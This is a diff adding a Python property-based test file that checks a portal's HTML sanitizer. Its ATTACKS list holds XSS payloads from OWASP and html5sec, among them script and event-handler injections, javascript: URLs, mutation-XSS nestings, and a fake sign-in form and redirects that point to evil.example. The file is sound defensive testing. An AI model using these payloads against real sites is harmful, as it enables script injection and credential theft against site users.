@@ -1,0 +1,146 @@
+"""What an editor types becomes safe HTML: nothing in it runs, hides, leads within the portal or breaks the page around it."""
+
+from __future__ import annotations
+
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import example, given
+from hypothesis import strategies as st
+
+from portal.text import one_line, rich, unmarked
+
+ALLOWED = {"a", "br", "em", "li", "ol", "p", "strong", "ul"}
+# From the OWASP and html5sec lists: what has run somewhere once.
+ATTACKS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    "<iframe src=javascript:alert(1)>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<a href='jAvAsCrIpT:alert(1)'>x</a>",
+    "<a href='java\tscript:alert(1)'>x</a>",
+    "<a href='&#106;avascript:alert(1)'>x</a>",
+    "<a href='&#x01;javascript:alert(1)'>x</a>",
+    "<a href=' \u00a0javascript:alert(1)'>x</a>",
+    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
+    "<a href='vbscript:x'>x</a>",
+    "<a href='//evil.example'>x</a>",
+    "<a href='/staff/sign-out'>x</a>",
+    "<a href='?x'>x</a>",
+    "<a href='http:javascript:alert(1)'>x</a>",
+    "<a href=https://ok.example onclick=alert(1) style='position:fixed' target=_top rel=opener>x</a>",
+    "<p style='background:url(javascript:alert(1))' class=app-exit id=main>x",
+    "<form action=https://evil.example><input name=password><button>Sign in</form>",
+    "<base href=https://evil.example>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<link rel=stylesheet href=https://evil.example>",
+    "<style>@import 'https://evil.example'</style>",
+    "<object data=x><embed src=x>",
+    "<!--<img src='--><img src=x onerror=alert(1)//'>",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "</p></div></main></body></html><script>alert(1)</script>",
+    "<p title='</p><script>alert(1)</script>'>",
+    "<template><script>alert(1)</script></template>",
+    "<title><a title='</title><img src onerror=alert(1)>'>",
+    "\u202egnp.exe",
+    "{{ config }} {% raw %}",
+]
+
+
+class Checked(HTMLParser):
+    """Fails on what may not be there, and on a tag that is left open or closed twice."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.open: list[str] = []
+        self.links: list[str] = []
+        self.feed(html)
+        self.close()
+        assert not self.open, html
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        assert tag in ALLOWED, tag
+        if tag != "a":
+            assert not attrs
+        else:
+            given = dict(attrs)
+            assert given.keys() == {"href", "rel"}
+            assert given["rel"] == "noopener noreferrer nofollow"
+            assert str(given["href"]).lower().startswith(("http://", "https://", "mailto:")), given
+            self.links.append(str(given["href"]))
+        if tag != "br":
+            self.open.append(tag)
+
+    def handle_endtag(self, tag: str) -> None:
+        assert self.open.pop() == tag
+
+    def handle_comment(self, data: str) -> None:
+        raise AssertionError(data)
+
+    handle_decl = handle_pi = unknown_decl = handle_comment
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_nothing_that_has_run_somewhere_runs_here(attack: str) -> None:
+    for typed in (attack, f"Come at ten.\n\n- tea\n- {attack}\n\nBye", f"<p>{attack}</p>", f"<strong>{attack}"):
+        html = rich(typed)
+        Checked(html)
+        for word in ("javascript:", "data:text", "vbscript:", "\u202e"):
+            assert f'href="{word}' not in html.lower()
+        assert "\u202e" not in html
+
+
+pieces = st.sampled_from(
+    [*ATTACKS, "<p>", "</p>", "<ul><li>", "</ul>", "<a href='", "'>", "<", ">", "&", "&lt;", "&#", "\n", "\n\n", "- ",
+     "https://example.org/a?b=c&d=(e)", "someone@example.org", "<strong>", "</em>", "\x00", "\ud800", "\u2028", "ہے"]
+)  # fmt: skip
+
+
+@given(st.lists(pieces | st.text(max_size=12), max_size=12).map("".join))
+@example("<a href=https://a.example><a href=https://b.example>")
+@example("<" * 300)
+def test_whatever_is_typed_comes_out_safe_and_whole(typed: str) -> None:
+    html = rich(typed)
+    Checked(html)
+    assert "\x00" not in html
+    assert "<" not in unmarked(html) or "&lt;" in html
+
+
+@given(st.lists(pieces | st.text(max_size=12), max_size=8).map("".join))
+def test_what_is_clean_stays_as_it_is(typed: str) -> None:
+    html = rich(typed)
+    assert Checked(rich(html)).links == Checked(html).links
+
+
+@pytest.mark.parametrize(
+    ("typed", "html", "text"),
+    [
+        ("One.\nTwo.\n\nThree.", "<p>One.<br>Two.</p>\n<p>Three.</p>", "One.\nTwo.\n\nThree."),
+        ("Bring:\n- tea\n- a cup\nThanks.", "<p>Bring:</p>\n<ul><li>tea</li><li>a cup</li></ul>\n<p>Thanks.</p>",
+         "Bring:\n\n- tea\n- a cup\n\nThanks."),
+        ("<p>Bold <strong>words</strong></p><script>alert(1)</script>", "<p>Bold <strong>words</strong></p>", "Bold words"),
+        ("5 < 6 & 7 > 6", "<p>5 &lt; 6 &amp; 7 &gt; 6</p>", "5 < 6 & 7 > 6"),
+        ("<li>one</li>\n<li>two</li>", "<ul><li>one</li><li>two</li></ul>", "- one\n- two"),
+        ("<div><h2>Hello</h2></div>", "<p>Hello</p>", "Hello"),
+        ("", "", ""),
+    ],
+)  # fmt: skip
+def test_paragraphs_lists_and_pasted_html_look_as_they_were_meant(typed: str, html: str, text: str) -> None:
+    assert rich(typed) == html
+    assert unmarked(html) == text
+
+
+def test_addresses_become_links_and_their_address_is_not_lost_where_no_link_is_shown() -> None:
+    html = rich("See example.org, <a href='https://long.example/way'>the map</a> or ask a@example.org.")
+    assert Checked(html).links == ["http://example.org", "https://long.example/way", "mailto:a@example.org"]
+    assert unmarked(html) == "See example.org, the map (https://long.example/way) or ask a@example.org."
+
+
+def test_a_title_is_one_line() -> None:
+    assert one_line(" A\r\n title\twith \u202eturned\u202c  words\x00 ") == "A title with turned words"
